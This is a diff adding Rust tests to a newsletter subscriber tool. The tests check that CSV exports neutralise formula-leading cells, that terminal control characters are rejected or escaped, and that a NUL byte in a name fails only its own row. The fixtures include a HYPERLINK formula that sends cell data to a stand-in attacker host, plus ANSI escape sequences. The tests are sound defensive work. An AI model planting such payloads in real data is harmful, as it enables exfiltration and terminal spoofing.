@@ -302,3 +302,88 @@ fn a_list_file_sync_never_brings_back_who_left() {
     assert_eq!(emails(&subscribers(&p, &["--status", "active"])), set(&["ada@example.org"]));
     assert_eq!(emails(&subscribers(&p, &[])), set(&["ada@example.org", "grace@example.org"]), "ken stays forgotten");
 }
+
+/// What others typed reaches the publisher's screen and spreadsheet harmlessly: no formula
+/// starts a CSV cell, no control character reaches the terminal, and an export imports back.
+#[test]
+fn exports_never_start_a_formula_and_tables_never_carry_control_characters() {
+    let p = Publication::sample();
+    let file = p.write(
+        "hostile.csv",
+        "email,name,lists,note\n\
+         ann@example.org,=HYPERLINK(\"http://evil.example/?\"&A2),weekly,+1\n\
+         bob@example.org,@SUM(1+1),weekly,-2\n\
+         -carl@example.org,Carl,weekly,ok\n",
+    );
+    let doc = import(&p, file.to_str().expect("utf-8 path"), &[]).ok().json();
+    assert_eq!(doc["imported"], 3, "{doc:#}");
+    for args in [&["subscribers", "export"][..], &["subscribers", "list", "--format", "csv"][..]] {
+        let text = p.gazette(args).ok().stdout();
+        for row in csv_rows(&text) {
+            for cell in row {
+                assert!(!cell.starts_with(['=', '+', '-', '@']), "{cell:?} in\n{text}");
+            }
+        }
+    }
+    // The guard is undone on the way back in: the export, imported again, means what it said.
+    let export = p.gazette(&["subscribers", "export"]).ok().stdout();
+    let again = p.write("again.csv", &export);
+    let doc = import(&p, again.to_str().expect("utf-8 path"), &[]).ok().json();
+    assert_eq!(doc["imported"], 0, "{doc:#}");
+    assert_eq!(rejected_lines(&doc), Vec::<u64>::new(), "{doc:#}");
+    let all = subscribers(&p, &[]);
+    assert_eq!(find(&all, "ann@example.org")["name"], "=HYPERLINK(\"http://evil.example/?\"&A2)");
+    assert_eq!(find(&all, "bob@example.org")["attributes"]["note"], "-2");
+    assert_eq!(find(&all, "-carl@example.org")["name"], "Carl");
+
+    // A control character never gets in by any edge, and a name already stored with one (from an
+    // older version) is shown escaped.
+    let bad = p.gazette(&["subscribers", "add", "dan@example.org", "--name", "Dan\u{1b}[2J"]);
+    assert_eq!(bad.code(), 2, "{}", bad.stderr());
+    assert!(bad.stderr().contains("U+001B"), "{}", bad.stderr());
+    let conn =
+        edit_store(&p, "UPDATE subscribers SET name = 'Ann' || char(27) || '[31mRED' WHERE email = 'ann@example.org'");
+    assert!(conn, "the store was updated");
+    let table = p.gazette(&["subscribers", "list"]).ok().stdout();
+    assert!(!table.contains('\u{1b}'), "{table:?}");
+    assert!(table.contains("Ann\\u{1b}[31mRED"), "{table}");
+}
+
+/// Runs one statement on the publication's SQLite store directly: the
+/// way an older version (or a hand edit) could have left a value.
+fn edit_store(p: &Publication, sql: &str) -> bool {
+    let url = format!("sqlite://{}", p.path().join("gazette.db").display());
+    let sql = sql.to_owned();
+    std::thread::spawn(move || {
+        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().expect("runtime");
+        rt.block_on(async move {
+            use sqlx::Connection;
+            let mut conn = sqlx::SqliteConnection::connect(&url).await.expect("open the store");
+            sqlx::query(sqlx::AssertSqlSafe(sql)).execute(&mut conn).await.expect("update").rows_affected() == 1
+        })
+    })
+    .join()
+    .expect("thread")
+}
+
+/// A NUL in a name is that row's error, named by its line, on PostgreSQL as on SQLite; the
+/// other rows are imported.
+#[test]
+fn a_nul_in_a_name_is_its_rows_error_on_postgresql() {
+    let db = crate::postgres::TestDatabase::create();
+    let p = Publication::sample();
+    let config = std::fs::read_to_string(p.path().join("gazette.toml")).expect("config");
+    let config = config.replace("[storage]\ndatabase_url = \"sqlite://gazette.db\"\n", "");
+    p.write("gazette.toml", &format!("{config}\n[storage]\ndatabase_url = {:?}\n", db.url()));
+    let file = p.write(
+        "nul.csv",
+        "email,name,lists\nann@example.org,Ann,weekly\nnul@example.org,Nu\0ll,weekly\nbob@example.org,Bob,weekly\n",
+    );
+    let doc = import(&p, file.to_str().expect("utf-8 path"), &[]).ok().json();
+    assert_eq!(rejected_lines(&doc), [3], "{doc:#}");
+    assert!(doc["rejected"][0]["reason"].as_str().is_some_and(|r| r.contains("name")), "{doc:#}");
+    assert_eq!(doc["imported"], 2, "{doc:#}");
+    assert_eq!(emails(&subscribers(&p, &[])), set(&["ann@example.org", "bob@example.org"]));
+    let strict = import(&p, file.to_str().expect("utf-8 path"), &["--strict"]);
+    assert_eq!(strict.code(), 2, "{}", strict.stdout());
+}
